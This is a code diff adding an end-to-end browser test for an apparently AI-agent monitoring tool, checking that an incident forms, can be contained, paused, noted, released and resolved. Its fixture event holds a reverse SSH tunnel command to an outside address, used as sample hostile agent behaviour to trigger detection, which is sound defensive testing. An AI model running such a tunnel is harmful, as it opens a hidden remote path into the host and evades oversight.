@@ -172,6 +172,56 @@ test('a session is contained in one click, step by step, and let go again', asyn
   await end('con-1')
 })
 
+test('an incident forms by itself, all of it is contained in one click, and it says so only once its host was seen to hold it', async ({
+  page,
+}) => {
+  // Given: a session that runs, and what its agent reports of itself.
+  await run('inc-1', 1)
+  const data = { call: 'c1', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' }
+  await post('/api/ingest/events', { v: 1, kind: 'action.started', atMs: Date.now(), session: 'inc-1', data })
+  type Listed = { incident: string; status: string; containedSessions: number; containedAtMs?: number }
+  const incident = async () =>
+    (await product.json<{ incidents: Listed[] }>('/api/incidents?session=inc-1')).incidents.at(0)
+  await until('the incident is there', async () => (await incident()) !== undefined)
+  await signIn(page, product)
+  await page.getByRole('link', { name: /Open incidents/ }).click()
+  await page.getByRole('link', { name: /SSH opens a port on the far side/ }).click()
+  const held = page.getByText('0 of 1 seen held or ended')
+  await expect(held).toBeVisible()
+
+  // When: it is taken, then contained.
+  await page.getByRole('button', { name: 'Acknowledge' }).click()
+  await expect(page.getByText(/^Acknowledged$/)).toBeVisible()
+  expect(await incident()).toMatchObject({ status: 'acknowledged', containedSessions: 0 })
+  await page.getByRole('button', { name: 'Contain 1 session' }).click()
+
+  // Then: what the page says is what the host read, and the program stands still.
+  await expect(held).toBeHidden()
+  await expect(page.getByText(/^Contained$/).first()).toBeVisible()
+  expect(await incident()).toMatchObject({ status: 'contained', containedSessions: 1 })
+  const { row } = await detailOf('inc-1')
+  expect(row.state).toBe('paused')
+  const counter = counterOf('inc-1')()
+  const note = page.getByRole('textbox', { name: /note/i })
+  await note.fill('The far end is a VPS, **not ours**.')
+  await note.press('Control+Enter')
+  await expect(page.getByRole('list', { name: /^Log/ }).getByText('not ours')).toBeVisible()
+  expect(counterOf('inc-1')()).toBe(counter)
+
+  // And when it is let go, it is contained no longer.
+  await post(`/api/sessions/inc-1/controls`, { action: 'release' })
+  await until('it runs again', () => counterOf('inc-1')() > counter)
+  await until('it says so', async () => (await incident())?.containedSessions === 0)
+  await expect(held).toBeVisible()
+  await page.getByRole('button', { name: 'Resolve…' }).click()
+  const dialog = page.getByRole('dialog')
+  await dialog.getByText('Real', { exact: true }).click()
+  await dialog.getByRole('button', { name: 'Resolve', exact: true }).click()
+  await expect(dialog).toBeHidden()
+  expect(await incident()).toMatchObject({ status: 'resolved' })
+  await end('inc-1')
+})
+
 test('an action is denied and its session paused with one key: the agent gets the denial, the pause is observed by its host', async ({
   page,
 }) => {
